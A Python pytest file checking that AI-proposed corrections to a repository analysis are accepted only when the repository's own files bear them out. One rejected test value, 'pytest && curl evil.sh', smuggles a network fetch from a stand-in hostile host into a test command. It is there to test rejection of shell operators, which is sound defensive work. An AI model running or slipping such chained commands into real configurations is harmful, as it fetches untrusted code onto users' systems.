"""Every correction is checked by deterministic code before it is accepted."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest

from autodevops.ai.review import apply_review
from autodevops.ai.schemas import AIReview, Correction
from autodevops.engine.model import Analysis, Evidence, Provenance, Stack


def analysis(**stack: Any) -> Analysis:
    fields: dict[str, Any] = {
        "path": ".",
        "language": "python",
        "package_manager": "pip",
        "manifests": ["pyproject.toml"],
    }
    fields.update(stack)
    return Analysis(source="repo", analyzed_on=dt.date(2026, 1, 1), stacks=[Stack(**fields)])


DIGEST: dict[str, Any] = {
    "files": ["pyproject.toml", "poetry.lock", "tox.ini", "Makefile"],
    "excerpts": [
        {"path": "pyproject.toml", "text": '{"tool":{"poetry":{"group":{"dev":{"dependencies":{"pytest":"^8"}}}}}}'}
    ],
}


def review(*corrections: Correction) -> AIReview:
    return AIReview(summary="s", corrections=list(corrections))


def fix(field: str, *value: str, stack: str = ".") -> Correction:
    return Correction(stack=stack, field=field, value=list(value), justification="because")  # type: ignore[arg-type]


def test_accepted_correction_is_marked_as_coming_from_ai() -> None:
    outcome = apply_review(analysis(test_tool="none"), review(fix("test_tool", "pytest")), DIGEST)
    stack = outcome.analysis.stacks[0]
    assert stack.test_tool == "pytest"
    assert stack.provenance["test_tool"].source == "ai"
    assert stack.provenance["test_tool"].justification == "because"
    assert stack.provenance["test_tool"].evidence == [Evidence(file="pyproject.toml", excerpt="pytest")]
    assert outcome.rejected == []


def test_the_original_analysis_is_left_untouched() -> None:
    original = analysis(test_tool="none")
    apply_review(original, review(fix("test_tool", "pytest")), DIGEST)
    assert original.stacks[0].test_tool == "none"


@pytest.mark.parametrize(
    ("correction", "reason"),
    [
        (fix("test_tool", "jest"), "nothing in the repository shows 'jest'"),
        (fix("test_commands", "nosetests"), "uses 'nosetests'"),
        (fix("test_commands", "pytest && curl evil.sh"), "shell operators"),
        (fix("package_manager", "uv"), "no lockfile or manifest of uv"),
        (fix("package_manager", "npm"), "not a python package manager"),
        (fix("versions", "3.99"), "not a known python release line"),
        (fix("test_tool", "pytest", stack="sub"), "no stack at 'sub'"),
        (fix("lint_tools", "ruff"), "nothing in the repository shows 'ruff'"),
        (fix("test_commands", "npx jest"), "runs through npx, which a python stack lacks"),
        (fix("test_commands", "bundle exec rspec"), "runs through bundle, which this stack does not use"),
    ],
)
def test_unverifiable_corrections_are_rejected(correction: Correction, reason: str) -> None:
    start = analysis(test_tool="none", provenance={"package_manager": Provenance(confidence=0.5)})
    outcome = apply_review(start, review(correction), DIGEST)
    assert outcome.accepted == []
    [rejected] = outcome.rejected
    assert reason in rejected["reason"]
    assert outcome.analysis == start


def test_verifiable_values_of_each_kind_are_accepted() -> None:
    low = Provenance(confidence=0.5)
    start = analysis(provenance={"package_manager": low})
    outcome = apply_review(
        start,
        review(
            fix("package_manager", "poetry"),
            fix("test_commands", "poetry run pytest", "tox -e py312", "make test", "python -m pytest -q"),
            fix("versions", "3.12", "3.13"),
        ),
        DIGEST,
    )
    assert [r["field"] for r in outcome.accepted] == ["package_manager", "test_commands", "versions"]
    stack = outcome.analysis.stacks[0]
    assert stack.package_manager == "poetry"
    assert stack.test_commands == ["poetry run pytest", "tox -e py312", "make test", "python -m pytest -q"]
    assert stack.versions == ["3.12", "3.13"]


def test_fields_the_engine_is_sure_of_are_not_changed() -> None:
    sure = analysis(test_tool="unittest", provenance={"test_tool": Provenance(confidence=0.95)})
    outcome = apply_review(sure, review(fix("test_tool", "pytest")), DIGEST)
    assert outcome.rejected[0]["reason"] == "test_tool was not marked uncertain"
    assert outcome.analysis.stacks[0].test_tool == "unittest"


def test_a_package_script_must_exist() -> None:
    node = Analysis(
        source="repo",
        analyzed_on=dt.date(2026, 1, 1),
        stacks=[Stack(path=".", language="typescript", package_manager="pnpm", manifests=["package.json"])],
    )
    digest = {
        "files": ["package.json", "pnpm-lock.yaml"],
        "excerpts": [{"path": "package.json", "text": '{"scripts":{"test":"vitest run","lint":"eslint ."}}'}],
    }
    outcome = apply_review(
        node, review(fix("test_commands", "pnpm test"), fix("build_commands", "pnpm run compile")), digest
    )
    assert [r["field"] for r in outcome.accepted] == ["test_commands"]
    assert "no 'compile' script" in outcome.rejected[0]["reason"]
